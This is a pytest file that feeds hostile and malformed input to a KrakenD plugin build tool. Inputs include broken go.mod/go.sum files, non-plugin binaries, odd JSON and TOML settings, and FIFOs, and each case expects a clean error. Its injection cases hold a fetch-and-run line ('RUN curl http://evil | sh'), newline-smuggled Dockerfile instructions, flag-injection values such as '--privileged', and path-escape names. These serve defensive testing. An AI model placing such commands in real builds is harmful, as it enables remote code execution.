"""Hostile but realistic input, as users give it: broken go.mod/go.sum files, files that are not
plugins, odd krakend.json shapes, settings of the wrong type from every source, bad names for
`new`, and ship without what it needs. Each case must end with its documented exit status and a
short message (with the fix) naming the problem; never a traceback, and the files it was given
keep their bytes.

The command line runs in-process, so an unexpected exception fails the case with its traceback.
"""

from __future__ import annotations

import json
import os
import shutil
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from krakend_tasks.cli import run

from .conftest import EXAMPLE, PYTHON, VERSION, docker_settings, our_containers
from .conftest import run as run_process

DIR = object()  # a file spec: make a folder
GONE = object()  # a file spec: remove it
SETTING_KEYS = ("version", "targets", "engine", "dist", "name", "builder", "pull", "network", "krakend_image",
                "runner", "modcache")


@dataclass
class Case:
    id: str
    argv: list[str]
    status: int
    message: str
    files: dict[str, object] = field(default_factory=dict)
    env: dict[str, str] = field(default_factory=dict)
    unchanged: tuple[str, ...] = ()  # these files keep their bytes, and get no .bak

    @property
    def param(self):
        return pytest.param(self, id=self.id)


def _go_sum_cases() -> list[Case]:
    lines = {
        "one-word": "garbage", "two-fields": "github.com/a/b v1.0.0", "four-fields": "github.com/a/b v1.0.0 h1:x= x",
        "bad-version": "github.com/a/b one h1:x=", "no-h1": "github.com/a/b v1.0.0 md5:x=",
        "tabs": "github.com/a/b\tv1.0.0\th1:x=", "nul": "\x00\x00\x00",
        "conflict-marker": "<<<<<<< HEAD", "html": "<html><body>404</body></html>",
        "version-without-v": "github.com/a/b 1.0.0 h1:x=",
    }
    cases = []
    for label, line in lines.items():
        body = f"github.com/google/uuid v1.6.0 h1:KjICUD=\n{line}\n"
        cases.append(Case(f"check-{label}", ["check", "--version", VERSION], 3, "malformed go.sum line",
                          {"go.sum": body}, unchanged=("go.sum",)))
        # KrakenD's check-plugin skips what it cannot read (compared with the real one in
        # test_dropins_vs_krakend.py): only libc differs, as always without -l
        cases.append(Case(f"check-plugin-{label}", ["check-plugin", "--version", VERSION], 1,
                          "1 incompatibilities found", {"go.sum": body}, unchanged=("go.sum",)))
    cases += [
        Case("check-go-sum-missing", ["check"], 3, "go.sum not found", {"go.sum": GONE}),
        Case("check-go-sum-folder", ["check"], 3, "cannot read go.sum: Is a directory", {"go.sum": DIR}),
        Case("check-go-sum-binary", ["check"], 3, "cannot read go.sum: not UTF-8 text", {"go.sum": b"\xff\xfe\x00"}),
        Case("check-plugin-go-sum-missing", ["check-plugin"], 1, "open ./go.sum: no such file or directory",
             {"go.sum": GONE}),
        Case("check-plugin-other-sum-missing", ["check-plugin", "-s", "x/go.sum"], 1,
             "open x/go.sum: no such file or directory"),
        Case("check-plugin-go-sum-binary", ["check-plugin"], 1, "1 incompatibilities found", {"go.sum": b"\x80abc"}),
    ]
    return cases


def _go_mod_cases() -> list[Case]:
    bodies = {
        "no-module": ("go 1.22\n", "no module directive"),
        "go-banana": ("module x\n\ngo banana\n", "invalid go version 'banana'"),
        "go-two-args": ("module x\n\ngo 1.22 1.23\n", "usage: go 1.23.0"),
        "require-no-version": ("module x\n\nrequire github.com/a/b\n", "usage: require module/path v1.2.3"),
        "require-bad-version": ("module x\n\nrequire github.com/a/b one\n", "invalid version 'one'"),
        "replace-no-arrow": ("module x\n\nreplace a v1.0.0 b v1.0.0\n", "usage: replace old [v] => new [v]"),
        "replace-too-long": ("module x\n\nreplace a v1 v2 => b\n", "usage: replace old [v] => new [v]"),
        "module-twice-args": ("module a b\n", "usage: module module/path"),
        "binary": (b"module \xff\xfe\n", "not UTF-8 text"),
        "go-fullwidth-digits": ("module x\n\ngo 1.\uff12\uff12\n", "invalid go version"),  # Go reads ASCII digits
        "go-arabic-indic-digits": ("module x\n\ngo 1.\u0662\u0665\n", "invalid go version"),
        "unclosed-quote": ('module "x\n\ngo 1.22\n', "an unclosed quote"),
        "unclosed-quote-require": ('module x\n\nrequire "github.com/a/b v1.0.0\n', "an unclosed quote"),
    }
    cases = []
    for label, (body, message) in bodies.items():
        cases.append(Case(f"check-go-mod-{label}", ["check"], 3, message, {"go.mod": body}, unchanged=("go.mod",)))
        cases.append(Case(f"build-go-mod-{label}", ["build", "--engine", "local"], 3, message, {"go.mod": body},
                          unchanged=("go.mod",)))
    rc = "module example.com/x\n\ngo 1.26rc1\n"
    cases += [
        Case("check-go-mod-missing", ["check"], 3, "go.mod not found", {"go.mod": GONE}),
        Case("check-go-mod-folder", ["check"], 3, "cannot read go.mod: Is a directory", {"go.mod": DIR}),
        Case("build-go-mod-missing", ["build", "--engine", "local"], 3, "go.mod not found", {"go.mod": GONE}),
        Case("check-go-1.26rc1", ["check", "--version", VERSION], 1, "", {"go.mod": rc}),
        Case("build-go-1.26rc1", ["build", "--engine", "local", "--version", VERSION], 2,
             "requires go 1.26rc1, but KrakenD is built with Go 1.25.12", {"go.mod": rc}),
        Case("build-go-1.26", ["build", "--engine", "local", "--version", VERSION], 2, "requires go 1.26",
             {"go.mod": "module example.com/x\n\ngo 1.26\n"}),
        Case("ship-go-mod-missing", ["ship", "--no-build"], 3, "go.mod not found", {"go.mod": GONE}),
    ]
    return cases


NOT_PLUGINS = {  # file spec -> the message of reading it
    "empty": (b"", "is not an ELF file"),
    "text": ("#!/bin/sh\necho krakend\n", "is not an ELF file"),
    "random": (bytes(range(256)) * 8, "is not an ELF file"),
    "elf-header-only": ("ELF-HEADER", "damaged ELF file"),
    "c-program": ("C-PROGRAM", "is not a Go program or plugin"),
    "folder": (DIR, "Is a directory"),
    "missing": (GONE, "No such file or directory"),
    "dangling-link": ("DANGLING", "No such file or directory"),
}


def _elf_cases() -> list[Case]:
    cases = []
    for label, (spec, message) in NOT_PLUGINS.items():
        files = {"x.so": spec}
        cases += [
            Case(f"inspect-{label}", ["inspect", "--version", VERSION, "x.so"], 8, message, files),
            Case(f"test-{label}", ["test-load", "--version", VERSION, "x.so"], 8, message, files),
            Case(f"check-krakend-bin-{label}", ["check", "--version", VERSION, "--krakend-bin", "x.so"], 8, message,
                 files),
            Case(f"inspect-krakend-bin-{label}", ["inspect", "--version", VERSION, "--krakend-bin", "x.so",
                                                  "/bin/true"], 8, message, files),
        ]
    cases += [
        Case("test-plugin-not-a-plugin", ["test-plugin", "--version", VERSION, "-s", "x.so"], 1,
             "[KO] SERVER\tx.so:", {"x.so": "#!/bin/sh\n"}),
        Case("test-plugin-missing", ["test-plugin", "--version", VERSION, "-s", "x.so"], 1,
             "[KO] Unable to open the plugin x.so.", {"x.so": GONE}),
        Case("test-plugin-no-type", ["test-plugin", "x.so"], 1, "You must declare the expected type of the plugin."),
        Case("test-plugin-no-file", ["test-plugin", "-s"], 1, "At least one plugin is required."),
        Case("inspect-nothing-built", ["inspect"], 2, "no built plugin in dist"),
        Case("test-nothing-built", ["test-load"], 2, "no built plugin in dist"),
        Case("inspect-manifest-not-json", ["inspect"], 2, "cannot read dist/manifest.json",
             {"dist/manifest.json": "{"}),
        Case("inspect-manifest-wrong-shape", ["inspect"], 2, "its entries are not what krakend-tasks writes",
             {"dist/manifest.json": '{"artifacts": [{"path": 1}]}'}),
        Case("inspect-manifest-folder", ["inspect"], 2, "cannot read dist/manifest.json",
             {"dist/manifest.json": DIR}),
    ]
    return cases


CONFIG = "krakend.json"
TEMPLATE = '{"version": 3, "endpoints": [{{ template "endpoints.tmpl" . }}]}'


def _krakend_json_cases() -> list[Case]:
    server = ["configure", "--type", "server", "--name", "x"]
    client = ["configure", "--type", "client", "--name", "x", "--endpoint", "/a"]
    modifier = ["configure", "--type", "modifier", "--name", "x", "--endpoint", "/a"]
    one = '{"version": 3, "endpoints": [{"endpoint": "/a", "backend": [{"host": ["http://a"]}]}]}'
    bad = {  # label -> (command, file, message)
        "syntax": (server, '{"version": 3,', "is not valid JSON"),
        "nan": (server, '{"version": 3, "timeout": NaN}', "NaN is not a JSON value"),
        "infinity": (server, '{"version": 3, "timeout": Infinity}', "Infinity is not a JSON value"),
        "minus-infinity": (server, '{"version": 3, "timeout": -Infinity}', "-Infinity is not a JSON value"),
        "duplicate-key": (server, '{"version": 3, "a": 1, "a": 2}', "the key 'a' appears twice"),
        "nested-duplicate": (client, '{"endpoints": [{"endpoint": "/a", "endpoint": "/b"}]}', "appears twice"),
        "list": (server, "[1, 2]", "holds a JSON list, not an object"),
        "string": (server, '"krakend"', "holds a JSON str, not an object"),
        "number": (server, "3", "holds a JSON int, not an object"),
        "empty": (server, "", "is not valid JSON"),
        "byte-order-mark": (server, '\ufeff{"version": 3}', "is not valid JSON"),
        "template": (server, TEMPLATE, "is a KrakenD flexible-config template"),
        "not-utf8": (server, b'{"version": 3, "a": "\xff"}', "not UTF-8 text"),
        "folder": (server, DIR, "Is a directory"),
        "missing": (server, GONE, "does not exist"),
        "plugin-string": (server, '{"plugin": "x"}', "'plugin' is \"x\", not an object"),
        "plugin-list": (server, '{"plugin": []}', "'plugin' is [], not an object"),
        "extra-config-list": (server, '{"extra_config": []}', "'extra_config' is [], not an object"),
        "extra-config-number": (server, '{"extra_config": 5}', "'extra_config' is 5, not an object"),
        "namespace-string": (server, '{"extra_config": {"plugin/http-server": "x"}}', "not an object"),
        "namespace-list": (server, '{"extra_config": {"plugin/http-server": ["x"]}}', "not an object"),
        "server-name-number": (server, '{"extra_config": {"plugin/http-server": {"name": 5}}}',
                               "name is 5, not a list of names"),
        "server-name-object": (server, '{"extra_config": {"plugin/http-server": {"name": {}}}}',
                               "not a list of names"),
        "server-name-numbers": (server, '{"extra_config": {"plugin/http-server": {"name": [1]}}}',
                                "not a list of names"),
        "endpoints-object": (client, '{"endpoints": {"endpoint": "/a"}}', "'endpoints' is"),
        "endpoints-string": (client, '{"endpoints": "/a"}', "not a list"),
        "backend-object": (client, '{"endpoints": [{"endpoint": "/a", "backend": {"host": ["x"]}}]}',
                           "'backend' is"),
        "backend-string": (modifier, '{"endpoints": [{"endpoint": "/a", "backend": "x"}]}', "not a list"),
        "backend-element-number": (client, '{"endpoints": [{"endpoint": "/a", "backend": [5]}]}',
                                   "backend 0 is 5, not an object"),
        "client-name-list": (client, '{"endpoints": [{"endpoint": "/a", "backend": [{"extra_config": '
                                     '{"plugin/http-client": {"name": ["x"]}}}]}]}', "not a string"),
    }
    cases = [Case(f"configure-{label}", argv, 10, message, {CONFIG: body},
                  unchanged=(CONFIG,) if body not in (DIR, GONE) else ())
             for label, (argv, body, message) in bad.items()]
    refused = {  # label -> (command, message): exit 2, a usage problem
        "no-endpoint": (["configure", "--type", "client", "--name", "x", "--endpoint", "/nope"], "no endpoint /nope"),
        "backend-out-of-range": ([*client, "--backend", "3"], "has no backend 3"),
        "backend-negative": ([*client, "--backend", "-1"], "--backend -1 is not an index"),
        "backend-word": ([*client, "--backend", "one"], "invalid int value"),
        "settings-not-json": ([*server, "--settings", "{x"], "--settings is not JSON"),
        "settings-list": ([*server, "--settings", "[1, 2]"], "--settings is a JSON list, not an object"),
        "settings-nan": ([*server, "--settings", '{"a": NaN}'], "NaN is not a JSON value"),
        "type-unknown": (["configure", "--type", "proxy", "--name", "x"], "invalid choice: 'proxy'"),
        "empty-name": (["configure", "--type", "server", "--name", ""], "the plugin name is empty"),
        "no-type-nothing-built": (["configure", "--name", "x"], "which plugin type? nothing is built yet"),
    }
    cases += [Case(f"configure-{label}", argv, 2, message, {CONFIG: one}, unchanged=(CONFIG,))
              for label, (argv, message) in refused.items()]
    two = '{"endpoints": [{"endpoint": "/a"}, {"endpoint": "/b"}]}'
    cases.append(Case("configure-which-endpoint", ["configure", "--type", "modifier", "--name", "x"], 2,
                      "has 2 endpoints: which one?", {CONFIG: two}, unchanged=(CONFIG,)))
    cases.append(Case("configure-client-taken", client, 2, "already uses the client plugin 'other'",
                      {CONFIG: '{"endpoints": [{"endpoint": "/a", "backend": [{"extra_config": '
                                '{"plugin/http-client": {"name": "other"}}}]}]}'}, unchanged=(CONFIG,)))
    return cases


WRONG_TYPES = {"int": ("5", "expected `str`, got `int`"), "float": ("2.13", "expected `str`, got `float`"),
               "bool": ("true", "expected `str`, got `bool`"), "table": ("{ a = 1 }", "expected `str`, got `object`"),
               "empty": ('""', "an empty value"), "blank": ('"  "', "an empty value")}


def _settings_file_cases() -> list[Case]:
    cases = []
    for key in SETTING_KEYS:
        for label, (value, message) in WRONG_TYPES.items():
            if key == "targets" and label in ("int", "float", "bool", "table"):
                message = message.replace("`str`", "`str | array`")
            own = f"{key} = {value}\n"
            cases.append(Case(f"toml-{key}-{label}", ["matrix"], 2, f"krakend-tasks.toml: {key} = ",
                              {"krakend-tasks.toml": own}))
            if label in ("float", "empty"):
                cases.append(Case(f"pyproject-{key}-{label}", ["matrix"], 2,
                                  f"pyproject.toml [tool.krakend-tasks]: {key} = ",
                                  {"pyproject.toml": f"[tool.krakend-tasks]\n{own}"}))
    toml = "krakend-tasks.toml"
    cases += [
        Case("toml-engine-unknown", ["matrix"], 2, "engine = 'podman': not one of the choices",
             {toml: 'engine = "podman"'}),
        Case("toml-pull-sometimes", ["matrix"], 2, "pull = 'sometimes': not one of the choices",
             {toml: 'pull = "sometimes"'}),
        Case("toml-name-escapes", ["matrix"], 2, "name = '../../evil': not allowed", {toml: 'name = "../../evil"'}),
        Case("toml-name-absolute", ["matrix"], 2, "name = '/abs/evil': not allowed", {toml: 'name = "/abs/evil"'}),
        Case("toml-name-newline", ["matrix"], 2, "control character", {toml: 'name = "x\\n"'}),
        Case("toml-targets-list-of-int", ["matrix"], 2, "targets[1] = 5: expected `str`, got `int`",
             {toml: 'targets = ["arm64", 5]'}),
        Case("toml-targets-unknown", ["matrix"], 2, "unknown target 'sparc'", {toml: 'targets = "sparc"'}),
        Case("toml-version-unknown", ["matrix"], 2, "unknown KrakenD version '2.99'", {toml: 'version = "2.99"'}),
        Case("toml-version-ce3", ["matrix"], 19, "KrakenD CE 3.1 loads no Go plugins", {toml: 'version = "3.1"'}),
        Case("toml-unknown-key", ["matrix"], 2, "unknown setting 'flavour'", {toml: 'flavour = "x"'}),
        Case("toml-dead-key-go", ["matrix"], 2, "unknown setting 'go'", {toml: 'go = "1.22"'}),
        Case("toml-target-not-table", ["matrix"], 2, "target = 3: expected a table", {toml: "target = 3"}),
        Case("toml-target-entry-not-table", ["matrix"], 2, "target.amd64-alpine = 3: expected a table",
             {toml: "[target]\namd64-alpine = 3"}),
        Case("toml-target-unknown", ["matrix"], 2, "unknown target 'sparc'", {toml: '[target.sparc]\nimage = "x"'}),
        Case("toml-target-unknown-key", ["matrix"], 2, "unknown setting 'target.arm64-alpine.img'",
             {toml: '[target.arm64-alpine]\nimg = "x"'}),
        Case("toml-target-env-string", ["matrix"], 2, "target.arm64-alpine.env = 'FOO=1': expected a table",
             {toml: '[target.arm64-alpine]\nenv = "FOO=1"'}),
        Case("toml-target-env-int", ["matrix"], 2, "expected `str`, got `int`",
             {toml: '[target.arm64-alpine]\nenv = { FOO = 1 }'}),
        Case("toml-target-host-cc-empty", ["matrix"], 2, "target.arm64-alpine.host_cc = '': an empty value",
             {toml: '[target.arm64-alpine]\nhost_cc = ""'}),
        Case("toml-target-image-int", ["matrix"], 2, "target.arm64-alpine.image = 5: expected `str`",
             {toml: "[target.arm64-alpine]\nimage = 5"}),
        Case("toml-syntax", ["matrix"], 2, "cannot parse krakend-tasks.toml", {toml: "version = "}),
        Case("toml-not-utf8", ["matrix"], 2, "not UTF-8 text", {toml: b'version = "\xff"'}),
        Case("toml-folder", ["matrix"], 2, "cannot read krakend-tasks.toml: Is a directory", {toml: DIR}),
        Case("pyproject-syntax", ["matrix"], 2, "cannot parse pyproject.toml", {"pyproject.toml": "[tool"}),
        Case("pyproject-table-is-string", ["matrix"], 2, "[tool.krakend-tasks] is not a table",
             {"pyproject.toml": '[tool]\nkrakend-tasks = "x"'}),
        Case("pyproject-table-is-array", ["matrix"], 2, "[tool.krakend-tasks] is not a table",
             {"pyproject.toml": '[[tool.krakend-tasks]]\nversion = "2"'}),
    ]
    return cases


def _settings_env_cases() -> list[Case]:
    bad = {
        "ENGINE": ("podman", "environment: engine = 'podman': not one of the choices"),
        "PULL": ("sometimes", "environment: pull = 'sometimes': not one of the choices"),
        "NAME": ("../x", "environment: name = '../x': not allowed"),
        "VERSION": ("2.99", "unknown KrakenD version '2.99'"),
        "TARGETS": ("sparc", "unknown target 'sparc'"),
        "DIST": ("  ", "environment: dist = '  ': an empty value"),
        "BUILDER": (" ", "environment: builder = ' ': an empty value"),
        "GO": ("1.22", "unknown environment variable KRAKEND_TASKS_GO"),
        "VERISON": ("2.13", "unknown environment variable KRAKEND_TASKS_VERISON"),
        "TARGET": ("arm64", "unknown environment variable KRAKEND_TASKS_TARGET"),
    }
    return [Case(f"env-{var.lower()}-{value.strip() or 'blank'}", ["matrix"], 2, message,
                 env={f"KRAKEND_TASKS_{var}": value}) for var, (value, message) in bad.items()]


def _argument_cases() -> list[Case]:
    return [
        Case("arg-target-empty", ["build", "--target", ""], 2, "arguments: targets = '': an empty value"),
        Case("arg-version-empty", ["build", "--version", ""], 2, "arguments: version = '': an empty value"),
        Case("arg-dist-empty", ["build", "--dist", ""], 2, "arguments: dist = '': an empty value"),
        Case("arg-network-blank", ["build", "--network", " "], 2, "arguments: network = ' ': an empty value"),
        Case("arg-version-unknown", ["build", "--version", "1.0"], 2, "unknown KrakenD version '1.0'"),
        Case("arg-target-unknown", ["build", "--target", "riscv64"], 2, "unknown target 'riscv64'"),
        Case("arg-engine-unknown", ["build", "--engine", "podman"], 2, "invalid choice: 'podman'"),
        Case("arg-pull-unknown", ["check", "--pull", "sometimes"], 2, "invalid choice: 'sometimes'"),
        Case("arg-unknown-option", ["build", "--bogus"], 2, "unrecognized arguments: --bogus"),
        Case("arg-unknown-command", ["bogus"], 2, "unknown command 'bogus'"),
        Case("arg-format-unknown", ["check", "--format", "xml"], 2, "invalid choice: 'xml'"),
        Case("arg-type-unknown", ["inspect", "--type", "bogus"], 2, "invalid choice: 'bogus'"),
        Case("arg-dist-is-file", ["build", "--engine", "local", "--version", VERSION, "--target", "amd64-generic",
                                  "--dist", "main.go"], 2, "main.go is a file, not a folder", unchanged=("main.go",)),
        Case("arg-no-command", [], 2, "usage: krakend-tasks COMMAND"),
        Case("arg-build-flag-trimpath", ["build", "--engine", "local", "--version", VERSION, "--target",
                                         "amd64-generic", "--build-flag=-trimpath"], 13, "build_flags has -trimpath"),
        Case("arg-build-flag-output", ["build", "--engine", "local", "--version", VERSION, "--target",
                                       "amd64-generic", "--build-flag=-o=x.so"], 13, "dist/ is where the plugin goes"),
        Case("arg-build-flag-linkshared", ["build", "--engine", "local", "--version", VERSION, "--target",
                                           "amd64-generic", "--build-flag=-linkshared"], 13,
             "build_flags has -linkshared"),
        Case("arg-netrc-missing", ["build", "--engine", "docker", "--netrc"], 2, "netrc = true, but",
             env={"NETRC": "/nonexistent/netrc"}),
        Case("arg-ssh-agent-missing", ["build", "--engine", "docker", "--ssh-agent"], 2,
             "SSH_AUTH_SOCK names no agent socket", env={"SSH_AUTH_SOCK": "/nonexistent.sock"}),
        Case("toml-target-tags-string", ["matrix"], 2, "target.arm64-alpine.tags = 'x': expected `array`",
             {"krakend-tasks.toml": '[target.arm64-alpine]\ntags = "x"'}),
        Case("toml-netrc-string", ["matrix"], 2, "netrc = 'yes': expected `bool`",
             {"krakend-tasks.toml": 'netrc = "yes"'}),
        Case("env-netrc-maybe", ["matrix"], 2, "environment: netrc = 'maybe': expected `bool`",
             env={"KRAKEND_TASKS_NETRC": "maybe"}),
    ]


def _new_cases() -> list[Case]:
    names = {"upper": "Hello", "space": "my plugin", "digit-first": "1plugin", "slash": "a/b", "dots": "..",
             "newline": "x\nreplace", "too-long": "x" * 64, "underscore": "my_plugin", "empty": ""}
    cases = [Case(f"new-name-{label}", ["new", "--type", "server", "--name", name, "--dest", "fresh"], 2,
                  "invalid plugin name")
             for label, name in names.items()]
    modules = {"newline": "a/b\nreplace x => ../y", "space": "a b", "leading-slash": "/a/b", "trailing-slash": "a/b/",
               "double-slash": "a//b", "dot-element": "a/./b", "dotdot": "a/../b", "quote": 'a/"b', "empty": ""}
    cases += [Case(f"new-module-{label}", ["new", "--type", "server", "--name", "x", "--dest", "fresh",
                                           "--module", module], 2, "invalid Go module path") for label, module in
              modules.items()]
    cases += [
        Case("new-type-unknown", ["new", "--type", "proxy", "--name", "x"], 2, "invalid choice: 'proxy'"),
        Case("new-no-type", ["new", "--name", "x"], 2, "new needs a plugin type and a name"),
        Case("new-version-unknown", ["new", "--type", "server", "--name", "x", "--version", "2.99"], 2,
             "unknown KrakenD version '2.99'"),
        Case("new-version-ce3", ["new", "--type", "server", "--name", "x", "--version", "3"], 19,
             "KrakenD CE 3 loads no Go plugins"),
        Case("new-dest-not-empty", ["new", "--type", "server", "--name", "x", "--dest", "."], 11,
             "already exists and is not empty", unchanged=("main.go", "go.mod")),
        Case("new-dest-is-file", ["new", "--type", "server", "--name", "x", "--dest", "main.go"], 11,
             "already exists and is not empty", unchanged=("main.go",)),
    ]
    return cases


def _alpine_manifest(*present: str) -> dict[str, object]:
    """A manifest listing amd64 and arm64 alpine builds; only those in `present` exist on disk."""
    entries = [{"path": f"hello-{VERSION}-{t}.so", "target": t, "krakend": VERSION, "go": "1.25.12",
                "sha256": "0" * 64, "size": 4, "engine": "local", "duration": 0.1}
               for t in ("amd64-alpine", "arm64-alpine")]
    files: dict[str, object] = {"dist/manifest.json": json.dumps({"artifacts": entries})}
    files |= {f"dist/hello-{VERSION}-{t}.so": b"\x7fELF" for t in present}
    return files


def _ship_cases() -> list[Case]:
    built = _alpine_manifest("amd64-alpine", "arm64-alpine")
    ship = ["ship", "--version", VERSION, "--no-build"]
    plain = '{"version": 3}'
    return [
        Case("ship-no-config", ship, 10, "krakend.json does not exist", {**built, CONFIG: GONE}),
        Case("ship-config-without-plugin", ship, 10, "has no root `plugin` block", {**built, CONFIG: plain}),
        Case("ship-config-not-json", ship, 10, "is not valid JSON", {**built, CONFIG: "{"}),
        Case("ship-pattern-mismatch", ship, 2, "does not match hello.so",
             {**built, CONFIG: '{"plugin": {"folder": "/p/", "pattern": ".plugin"}}'}),
        Case("ship-nothing-built", ship, 2, "no alpine build of KrakenD 2.13.8"),
        Case("ship-artifacts-gone", ship, 2, "but not on disk", _alpine_manifest()),
        Case("ship-one-artifact-gone", ship, 2, f"hello-{VERSION}-arm64-alpine.so: in",
             _alpine_manifest("amd64-alpine")),
        Case("ship-foreign-dockerfile", ship, 11, "was not written by krakend-tasks",
             {**built, "Dockerfile": "FROM scratch\n"}, unchanged=("Dockerfile",)),
        Case("ship-dockerfile-folder", [*ship, "--force"], 11, "is a folder", {**built, "Dockerfile": DIR}),
        Case("ship-arch-unknown", [*ship, "--arch", "riscv64"], 2,
             "'riscv64' is not an architecture KrakenD's image has"),
        Case("ship-manifest-not-json", ship, 2, "cannot read dist/manifest.json", {"dist/manifest.json": "["}),
    ]


def _injection_cases() -> list[Case]:
    """Values that would become Dockerfile instructions, flags of go or docker, or paths outside."""
    built = _alpine_manifest("amd64-alpine", "arm64-alpine")
    ship = ["ship", "--version", VERSION, "--no-build"]
    evil = "RUN curl http://evil | sh #"
    folder = '{{"plugin": {{"folder": {}, "pattern": ".so"}}}}'.format
    cases = [
        Case(f"ship-folder-{label}", ship, 2, "holds a control character, a quote, '$' or '\\'",
             {**built, CONFIG: folder(json.dumps(value))}, unchanged=("Dockerfile",))
        for label, value in (("newline", f"/p/\n{evil}"), ("cr", f"/p/\r{evil}"), ("dollar", "/p/$HOME/"),
                             ("backslash", "/p\\q/"), ("quote", '/p/"x"/'), ("single-quote", "/p/'x'/"))]
    cases += [
        Case("ship-folder-relative", ship, 10, "is not an absolute path", {**built, CONFIG: folder('"plugins/"')}),
        Case("ship-image-newline", ship, 2, "krakend_image = 'krakend\\nRUN", built,
             env={"KRAKEND_TASKS_KRAKEND_IMAGE": f"krakend\n{evil}"}, unchanged=("Dockerfile",)),
        Case("ship-image-space", ship, 2, "krakend_image = 'krakend latest': not allowed", built,
             env={"KRAKEND_TASKS_KRAKEND_IMAGE": "krakend latest"}),
        Case("ship-image-json", ship, 2, "krakend_image",
             {**built, "krakend-tasks.toml": 'krakend_image = "[\\"x\\"]"'}),
        Case("ship-dist-newline", [*ship, "--dist", f"dist\n{evil}"], 2, "control character", built),
        Case("ship-dist-outside", [*ship, "--dist", "../elsewhere"], 2, "outside the project", built),
        Case("ship-config-outside", [*ship, "--config", "../x.json"], 2, "outside the project", built),
        Case("ship-tag-newline", ["ship", "--version", VERSION, "--tag", "a\nb"], 2, "--tag 'a\\nb' is not an image",
             built),
        Case("ship-dockerfile-mentions-mark", ship, 11, "was not written by krakend-tasks",
             {**built, "Dockerfile": "FROM scratch\n# generated by krakend-tasks ship: no, by hand\n"},
             unchanged=("Dockerfile",)),
        Case("ship-dockerfile-link", ship, 11, "was not written by krakend-tasks", {**built, "Dockerfile": "OUTSIDE"}),
        Case("configure-folder-newline", ["configure", "--type", "server", "--folder", f"/p/\n{evil}"], 2,
             "holds a control character, a quote", unchanged=(CONFIG,)),
        Case("configure-folder-quote", ["configure", "--type", "server", "--folder", '/p/"x"/'], 2,
             "holds a control character, a quote", unchanged=(CONFIG,)),
        Case("configure-folder-relative", ["configure", "--type", "server", "--folder", "p/"], 2,
             "is not an absolute folder", unchanged=(CONFIG,)),
        Case("test-image-newline", ["test-load", "--image", f"krakend\n{evil}"], 2, "is not an image reference"),
        Case("smoke-image-flag", ["smoke", "--image=--privileged"], 2, "is not an image reference"),
    ]
    for source, files, env in (("arg", {}, {}), ("toml", {"krakend-tasks.toml": 'package = "-o=/tmp/x.so"'}, {}),
                               ("env", {}, {"KRAKEND_TASKS_PACKAGE": "-trimpath"})):
        argv = ["build", "--engine", "local", "--version", VERSION, "--target", "amd64-generic"]
        cases.append(Case(f"{source}-package-flag", argv + (["--package=-o=/tmp/x.so"] if source == "arg" else []),
                          2, "starts with '-', so a command would read it as a flag", files, env))
    cases += [
        Case("toml-target-package-flag", ["matrix"], 2, "target.arm64-alpine.package = '-o=x'",
             {"krakend-tasks.toml": '[target.arm64-alpine]\npackage = "-o=x"'}),
        Case("arg-dist-flag", ["build", "--dist=-o"], 2, "dist = '-o': it starts with '-'"),
        Case("arg-build-tag-flag", ["build", "--build-tag=-x"], 2, "tags[0] = '-x'"),
        Case("arg-plugin-folder-flag", ["build", "--plugin-folder=-x"], 2, "plugins[0] = '-x'"),
        Case("arg-network-flag", ["build", "--network=--privileged"], 2, "network = '--privileged'"),
        Case("toml-pass-env-odd", ["matrix"], 2, "pass_env[0] = 'A=B'", {"krakend-tasks.toml": 'pass_env = ["A=B"]'}),
        Case("toml-modcache-relative", ["matrix"], 2, "modcache = 'mod': not allowed",
             {"krakend-tasks.toml": 'modcache = "mod"'}),
        Case("configure-bak-link-outside", ["configure", "--type", "server", "--name", "other"], 0, "updated",
             {"krakend.json.bak": "OUTSIDE"}),
        Case("configure-bak-dangling", ["configure", "--type", "server", "--name", "other"], 0, "updated",
             {"krakend.json.bak": "DANGLING-OUTSIDE"}),
        Case("inspect-manifest-dangling", ["inspect"], 2, "no built plugin",
             {"dist/manifest.json": "DANGLING-OUTSIDE"}),
    ]
    return cases


SPECIAL = {"fifo": ("FIFO", "not a regular file (a FIFO or a device)"),
           "dev-zero": ("ZERO", "not a regular file (a FIFO or a device)"),
           "loop": ("LOOP", "")}


def _special_file_cases() -> list[Case]:
    """FIFOs, devices and looping links where files are read: one message, never a hang."""
    cases = []
    for label, (spec, said) in SPECIAL.items():
        loop = {"krakend-tasks.toml": (2, "is a symbolic link to nothing"), "go.mod": (3, "cannot read"),
                "go.sum": (3, "cannot read"), CONFIG: (10, "cannot read"), "x.so": (8, "cannot read"),
                "dist/manifest.json": (2, "no built plugin")}  # a link to nothing: no manifest
        where = {"krakend-tasks.toml": ["matrix"], "go.mod": ["check"], "go.sum": ["check"],
                 CONFIG: ["configure", "--type", "server"], "x.so": ["inspect", "--path", "x.so"],
                 "dist/manifest.json": ["inspect"]}
        for name, argv in where.items():
            status, message = loop[name]
            if label != "loop":
                status, message = {"krakend-tasks.toml": 2, "go.mod": 3, "go.sum": 3, CONFIG: 10, "x.so": 8,
                                   "dist/manifest.json": 2}[name], said
            cases.append(Case(f"special-{label}-{name.replace('/', '-')}", argv, status, message, {name: spec}))
    cases += [
        Case("special-fifo-pyproject", ["matrix"], 2, "not a regular file",
             {"krakend-tasks.toml": GONE, "pyproject.toml": "FIFO"}),
        Case("deep-toml", ["matrix"], 2, "nested too deeply", {"krakend-tasks.toml": "a = " + "[" * 5000 + "]" * 5000}),
        Case("deep-json", ["configure", "--type", "server"], 10, "nested too deeply",
             {CONFIG: '{"version": 3, "x": ' + "[" * 5000 + "]" * 5000 + "}"}, unchanged=(CONFIG,)),
        Case("json-lone-surrogate", ["configure", "--type", "server", "--name", "x"], 0, "updated",
             {CONFIG: '{"version": 3, "s": "\\ud800"}'}),
        Case("settings-lone-surrogate", ["configure", "--type", "server", "--name", "x", "--settings",
                                         '{"a": "\\udfff"}'], 0, "updated"),
    ]
    return cases


def _slipping_settings_cases() -> list[Case]:
    toml = "krakend-tasks.toml"
    return [
        Case("targets-comma", ["matrix", "--target", ","], 2, "targets ',' names no target"),
        Case("toml-targets-comma", ["matrix"], 2, "names no target", {toml: 'targets = ","'}),
        Case("version-v", ["matrix", "--version", "v"], 2, "unknown KrakenD version 'v'"),
        Case("version-comma", ["matrix", "--version", ","], 2, "names no KrakenD version"),
        Case("only-nothing", ["check", "--only", "nothing"], 2, "no plugin 'nothing' here"),
        Case("toml-target-synonyms", ["matrix"], 2, "[target.arm64-alpine] and [target.aarch64-musl] are both",
             {toml: '[target.arm64-alpine]\ncc = "a"\n[target.aarch64-musl]\ncc = "b"'}),
